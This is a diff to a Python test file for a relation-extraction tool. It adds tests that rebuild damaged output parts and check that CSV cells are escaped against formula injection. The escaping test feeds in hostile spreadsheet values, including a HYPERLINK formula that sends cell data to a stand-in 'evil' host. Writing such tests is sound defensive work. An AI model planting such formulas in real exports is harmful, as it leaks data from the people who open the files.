@@ -2,7 +2,7 @@
 
 import csv
 import json
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -14,6 +14,7 @@ from atlop.errors import AtlopError
 from atlop.files import hidden_path
 from atlop.inference import RelationExtractor, parts
 from atlop.inference.parts import ExtractionSummary, extract_file
+from atlop.inference.tables import WRITERS
 from tests.golden_values import golden_documents
 from tests.inference.texts import plain_row
 
@@ -84,24 +85,88 @@ def test_a_run_that_was_stopped_goes_on_where_it_was(
     assert not parts_of(tmp_path / "facts.jsonl").exists()
 
 
-@pytest.mark.parametrize("kept", [0, 1, -1], ids=["empty", "cut to one byte", "without its counts"])
-def test_a_part_that_was_cut_short_is_named_and_made_anew_where_it_is_removed(
-    kept: int, extractor: RelationExtractor, file: Path, tmp_path: Path
+def cut(whole: bytes) -> bytes:
+    return b"".join(whole.splitlines(keepends=True)[:-1])
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        lambda whole: b"",
+        lambda whole: whole[:1],
+        cut,
+        lambda whole: whole.replace(b'"margin": ', b'"margin": 1', 1),
+        lambda whole: whole.replace(b'"documents": 2', b'"documents": 3'),
+        lambda whole: whole.replace(b'"counts": ', b'"count": '),
+        lambda whole: whole[: len(whole) // 2] + bytes([whole[len(whole) // 2] ^ 1]) + whole[len(whole) // 2 + 1 :],
+    ],
+    ids=["empty", "one byte", "no counts", "other value", "other counts", "other key", "one bit"],
+)
+def test_a_damaged_part_is_made_again(
+    damage: Callable[[bytes], bytes],
+    extractor: RelationExtractor,
+    file: Path,
+    tmp_path: Path,
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
     extract_file(extractor, file, output=tmp_path / "whole.jsonl")
     output, part = tmp_path / "facts.jsonl", parts_of(tmp_path / "facts.jsonl") / "part-00000001.jsonl"
     with pytest.raises(KeyboardInterrupt):
         extract_file(extractor, file, output=output, progress=stopping_after(DOCUMENTS - 1))
     whole = part.read_bytes()
-    part.write_bytes(whole[:kept] if kept >= 0 else b"".join(whole.splitlines(keepends=True)[:-1]))
+    part.write_bytes(damage(whole))
+    assert part.read_bytes() != whole
 
-    with pytest.raises(AtlopError, match=rf"{part.name}: does not end with the line that counts its documents"):
-        extract_file(extractor, file, output=output)
-    assert not output.exists()
+    done = extract_file(extractor, file, output=output)
 
-    part.unlink()
-    extract_file(extractor, file, output=output)
+    assert isinstance(done, ExtractionSummary)
+    assert done.computed == 2 + DOCUMENTS % 2
+    [message] = caplog.messages
+    assert message.startswith(f"{part}: damaged, so it is made again (")
     assert output.read_bytes() == (tmp_path / "whole.jsonl").read_bytes()
+
+
+def test_a_damaged_manifest_is_one_message(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
+    manifest = parts_of(tmp_path / "facts.jsonl") / "manifest.json"
+    manifest.parent.mkdir()
+    manifest.write_text("[]", encoding="utf-8")
+
+    with pytest.raises(AtlopError, match=r"manifest\.json: expected an object, found \[\]"):
+        extract_file(extractor, file, output=tmp_path / "facts.jsonl")
+
+
+def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path) -> None:
+    texts = ['=HYPERLINK("http://evil/"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "'", "a=1"]
+    results: list[dict[str, Any]] = [
+        {
+            "document": index,
+            "title": text,
+            "facts": [
+                {
+                    "subject": {"entity": 0, "name": text, "type": text, "id": text, "mentions": []},
+                    "object": {"entity": 1, "name": text, "type": text, "id": None, "mentions": []},
+                    "relation": text,
+                    "relation_name": text,
+                    "margin": -0.5,
+                    "probability": None,
+                    "sentences": [],
+                }
+            ],
+        }
+        for index, text in enumerate(texts)
+    ]
+    for name, write in WRITERS.items():
+        write(tmp_path / f"facts{name}", lines=[json.dumps(result).encode() + b"\n" for result in results])
+
+    with (tmp_path / "facts.csv").open(encoding="utf-8", newline="") as opened:
+        rows = list(csv.DictReader(opened))
+    for text, row in zip(texts, rows, strict=True):
+        expected = text if text in ("'", "a=1") else f"'{text}"
+        keys = ("title", "subject_name", "subject_type", "subject_id", "object_name", "relation", "relation_name")
+        assert {row[key] for key in keys} == {expected}
+        assert float(row["margin"]) == -0.5
+    assert [row["title"] for row in pq.read_table(tmp_path / "facts.parquet").to_pylist()] == texts
+    assert collect_results(tmp_path / "facts.jsonl") == results
 
 
 def test_a_run_that_was_stopped_does_not_go_on_with_other_settings(
@@ -195,7 +260,7 @@ def test_a_packed_file_is_read_and_written(extractor: RelationExtractor, file: P
     extract_file(extractor, file, output=tmp_path / "facts.csv")
 
     plain = gzip.decompress((tmp_path / "facts.csv.gz").read_bytes()).decode()
-    assert plain.replace(".jsonl.gz, line", ".jsonl, line") == (tmp_path / "facts.csv").read_text(encoding="utf-8")
+    assert plain.replace(".jsonl.gz, line", ".jsonl, line") == (tmp_path / "facts.csv").read_bytes().decode()
 
 
 @pytest.mark.parametrize("name", ["facts.json", "facts", "facts.parquet.gz"])
